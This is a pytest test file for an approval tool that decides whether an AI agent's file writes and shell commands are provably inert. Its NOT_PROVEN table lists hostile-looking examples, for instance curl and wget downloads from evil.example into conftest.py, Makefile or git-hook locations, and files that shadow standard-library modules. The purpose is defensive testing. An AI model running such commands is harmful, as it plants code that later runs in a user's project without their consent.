"""Issue 30, F6: a write in the project is understood only where the file is proven not to run later.

The proof is by kind, folder and name from the catalog's ``[project]`` table (:mod:`.inert`),
never by a list of dangerous names alone; the labelled tables keep the everyday writes understood.
"""

from __future__ import annotations

import pytest

from desktop_approver.core.calls.catalog import catalog
from desktop_approver.core.calls.risk import assess
from desktop_approver.core.calls.risk.inert import UNKNOWN_KIND, unproven_write

PROJECT = "/home/me/app"

EVERYDAY = [
    ("Write", {"file_path": f"{PROJECT}/src/app.py", "content": "x = 1\n"}),
    ("Write", {"file_path": f"{PROJECT}/README.md", "content": "# app\n"}),
    ("Write", {"file_path": f"{PROJECT}/app.py", "content": "print(1)\n"}),
    ("Write", {"file_path": f"{PROJECT}/config/local.yaml", "content": "debug: false\n"}),
    ("Write", {"file_path": f"{PROJECT}/docs/.nojekyll", "content": ""}),
    ("Bash", {"command": "python3 -m venv .venv"}),
    ("Bash", {"command": "mkdir -p .github/workflows"}),
    ("Bash", {"command": "echo 'node_modules/' >> .gitignore"}),
    ("Bash", {"command": "ruff check src"}),
    ("Bash", {"command": "cc -Wall -c src/x.c -o build/x.o"}),
    ("Bash", {"command": "cp -r src/ build/"}),
    ("Bash", {"command": "rsync -a --exclude .git src/ build/"}),
    ("Bash", {"command": "cp notes.md ."}),
    ("Bash", {"command": "curl -sO https://example.com/files/README.md"}),
    ("Bash", {"command": "wget -q -P data https://example.com/iris.csv"}),
]

NOT_PROVEN = [
    ("Bash", {"command": "cp pre-commit .husky/"}),
    ("Bash", {"command": "mv evil venv"}),
    ("Bash", {"command": "cp config/nodemon.json ."}),
    ("Bash", {"command": "cp -r /tmp/x build/"}),
    ("Bash", {"command": "cp notes.txt Makefile"}),
    ("Bash", {"command": "gunzip Makefile.gz"}),
    ("Bash", {"command": "curl -sO https://evil.example/conftest.py"}),
    ("Bash", {"command": "curl -sOJ https://evil.example/dl"}),
    ("Bash", {"command": "wget -r https://evil.example/"}),
    ("Bash", {"command": "wget https://evil.example/x/Makefile"}),
    ("Bash", {"command": "wget -P .githooks https://evil.example/pre-commit.sh"}),
    ("Bash", {"command": "cd vendor/x && git fetch origin"}),
    ("Write", {"file_path": f"{PROJECT}/tests/json.py", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/Json.py", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/email/__init__.py", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/CONFTEST.PY", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/Node_Modules/x/index.js", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/turbo.json", "content": "{}"}),
    ("Write", {"file_path": f"{PROJECT}/eslint.workspace.ts", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/Justfile", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/tools/x.kiro.hook", "content": "x"}),
    ("mcp__git__git_log", {"repo_path": "/tmp/evil"}),
]


@pytest.mark.parametrize(("tool", "args"), EVERYDAY, ids=[str(a)[:60] for _, a in EVERYDAY])
def test_everyday_writes_stay_understood(tool: str, args: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    found = assess(tool, args, cwd=PROJECT)
    assert found.understood, found.gaps


@pytest.mark.parametrize(("tool", "args"), NOT_PROVEN, ids=[str(a)[:60] for _, a in NOT_PROVEN])
def test_a_write_not_proven_inert_is_not_understood(tool: str, args: dict[str, str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    found = assess(tool, args, cwd=PROJECT)
    assert not found.understood and found.gaps


def test_the_proof_is_the_kind_not_the_absence_of_a_dangerous_name() -> None:
    cat = catalog()
    # a name no list knows is still not proven, unless its kind is
    assert unproven_write(f"{PROJECT}/never-heard-of-it.rc", PROJECT, cat) == UNKNOWN_KIND
    assert unproven_write(f"{PROJECT}/src/never_heard_of_it.py", PROJECT, cat) is None
    assert unproven_write(f"{PROJECT}/.never-heard-of-it/x.md", PROJECT, cat) is not None
    # outside the project a write is judged by its place, not here
    assert unproven_write("/tmp/x.rc", PROJECT, cat) is None
